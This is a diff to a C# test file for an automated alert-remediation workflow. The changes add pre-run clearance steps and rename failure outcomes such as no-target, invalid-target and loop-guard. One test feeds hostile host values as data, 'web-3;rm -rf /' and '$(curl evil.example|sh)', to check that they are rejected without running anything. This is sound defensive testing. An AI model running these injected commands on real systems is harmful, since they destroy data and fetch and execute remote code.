@@ -12,9 +12,9 @@ public sealed class RemediationFailurePathTests
 {
     private static readonly string[] Head = ["RecordReceived", "Enrich", "LoopGuard", "BuildAnalysisRequest", "ChooseAnalyzer"];
     private static readonly string[] Tail = ["RecordOutcome", "CloseOut", "RouteOutcome"];
-    private static readonly string[] Approval = ["PrepareApproval", "RecordAwaitingApproval", "WaitForApproval"];
+    private static readonly string[] Approval = ["PrepareApproval", "ApprovalStillNeeded", "RecordAwaitingApproval", "WaitForApproval"];
     private static readonly string[] DiagnosticRun =
-        ["ExecuteScript", "WaitForCommand", "GetCommandResult", "CommandFinished", "MarkDiagnosed", "RecordOutcome", "CloseOut", "RouteOutcome", "Diagnosed"];
+        ["CheckBeforeAutoRun", "ExecuteIfCleared", "ExecuteScript", "WaitForCommand", "GetCommandResult", "CommandFinished", "MarkDiagnosed", "RecordOutcome", "CloseOut", "RouteOutcome", "Diagnosed"];
 
     [Fact]
     public async Task Run_WhenApproverRejects_ShouldEndRejectedWithoutRunningAnything()
@@ -151,8 +151,8 @@ public sealed class RemediationFailurePathTests
         Assert.Equal(ExecutionStatus.Failed, execution.Status);
         Assert.Equal("Remediation.CommandFailed", execution.Error);
         Assert.Equal(
-            [.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", "ExecuteScript", "WaitForCommand", "GetCommandResult", "CommandFinished",
-             "MarkRemediationFailed", .. Tail, "RemediationFailed"],
+            [.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", "CheckBeforeAutoRun", "ExecuteIfCleared", "ExecuteScript", "WaitForCommand", "GetCommandResult", "CommandFinished",
+             "MarkCommandFailed", .. Tail, "RemediationFailed"],
             await h.PathAsync(execution.ExecutionArn));
         var record = Assert.Single(h.Executions.All());
         Assert.Equal("remediation-failed", record.Status);
@@ -175,7 +175,7 @@ public sealed class RemediationFailurePathTests
         Assert.Equal("Remediation.VerificationFailed", execution.Error);
         Assert.Equal(
             [.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", .. Approval, "ApprovalDecision",
-             "ExecuteScript", "WaitForCommand", "GetCommandResult", "CommandFinished",
+             "CheckBeforeApprovedRun", "ExecuteIfCleared", "ExecuteScript", "WaitForCommand", "GetCommandResult", "CommandFinished",
              "StartVerification", "Verify", "VerificationResult", "WaitBeforeReverify", "Verify", "VerificationResult", "WaitBeforeReverify",
              "Verify", "VerificationResult", "MarkVerificationFailed", .. Tail, "VerificationFailed"],
             await h.PathAsync(arn));
@@ -186,7 +186,7 @@ public sealed class RemediationFailurePathTests
     }
 
     [Fact]
-    public async Task Run_WhenAlertNamesNoHost_ShouldEscalateWithoutRunningOrAskingForApproval()
+    public async Task Run_WhenAlertNamesNoHost_ShouldEndNoTargetWithoutRunningOrAskingForApproval()
     {
         await using var h = new WorkflowHarness();
         h.Model.Returns(WorkflowHarness.ModelPlan(WorkflowHarness.FixScript));
@@ -195,18 +195,19 @@ public sealed class RemediationFailurePathTests
         var execution = await h.RunAsync(alert);
 
         Assert.Equal(ExecutionStatus.Failed, execution.Status);
-        Assert.Equal("Remediation.Escalated", execution.Error);
+        Assert.Equal("Remediation.NoTarget", execution.Error);
+        Assert.Contains("names no host or instance", execution.Cause, StringComparison.Ordinal);
         Assert.Equal(
-            [.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", "MarkNoTarget", .. Tail, "Escalated"],
+            [.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", "MarkNoTarget", .. Tail, "NoTarget"],
             await h.PathAsync(execution.ExecutionArn));
         Assert.Empty(h.Executor.Sent);
-        Assert.Equal("escalated", Assert.Single(h.Executions.All()).Status);
+        Assert.Equal("no-target", Assert.Single(h.Executions.All()).Status);
     }
 
     [Theory]
     [InlineData("", "web-3;rm -rf /")]
     [InlineData("$(curl evil.example|sh)", null)]
-    public async Task Run_WhenAlertTargetIsInvalid_ShouldEscalateInvalidTargetWithoutRunning(string instanceLabel, string? invalidHost)
+    public async Task Run_WhenAlertTargetIsInvalid_ShouldEndInvalidTargetWithoutRunning(string instanceLabel, string? invalidHost)
     {
         await using var h = new WorkflowHarness();
         h.Model.Returns(WorkflowHarness.ModelPlan(WorkflowHarness.FixScript));
@@ -220,9 +221,10 @@ public sealed class RemediationFailurePathTests
 
         var execution = await h.RunAsync(alert);
 
-        Assert.Equal("Remediation.Escalated", execution.Error);
+        Assert.Equal("Remediation.InvalidTarget", execution.Error);
+        Assert.Contains("not a DNS name, IP address or cloud instance id", execution.Cause, StringComparison.Ordinal);
         Assert.Equal(
-            [.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", "MarkInvalidTarget", .. Tail, "Escalated"],
+            [.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", "MarkInvalidTarget", .. Tail, "InvalidTarget"],
             await h.PathAsync(execution.ExecutionArn));
         Assert.Empty(h.Executor.Sent);
     }
@@ -249,12 +251,13 @@ public sealed class RemediationFailurePathTests
         var execution = await h.RunAsync(alert);
 
         Assert.Equal(ExecutionStatus.Failed, execution.Status);
-        Assert.Equal("Remediation.Escalated", execution.Error);
-        Assert.Equal(["RecordReceived", "Enrich", "LoopGuard", "MarkLoopGuardTripped", .. Tail, "Escalated"], await h.PathAsync(execution.ExecutionArn));
+        Assert.Equal("Remediation.LoopGuard", execution.Error);
+        Assert.Equal("3 remediations of this alert already ran in the last 1440 minutes (limit 3): the fix does not hold. Nothing ran; a human must find the cause.", execution.Cause);
+        Assert.Equal(["RecordReceived", "Enrich", "LoopGuard", "MarkLoopGuardTripped", .. Tail, "LoopGuardTripped"], await h.PathAsync(execution.ExecutionArn));
         Assert.Equal(0, h.Model.Calls);
         Assert.Empty(h.Executor.Sent);
         var record = h.Executions.All().Single(r => !r.ExecutionId.StartsWith("earlier-", StringComparison.Ordinal));
-        Assert.Equal("escalated", record.Status);
+        Assert.Equal("loop-guard", record.Status);
         Assert.Equal("loop-guard", record.Reason);
     }
 
